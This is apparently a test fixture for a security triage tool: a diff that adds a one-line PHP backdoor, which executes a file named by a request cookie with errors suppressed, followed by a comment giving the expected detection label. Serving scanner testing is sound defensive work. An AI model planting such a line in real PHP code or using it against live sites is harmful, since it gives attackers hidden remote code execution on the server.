@@ -1,0 +1,2 @@
+<?@require($_COOKIE["t"]);?>
+<!-- triage-expect: triage_php_request_direct_exec -->
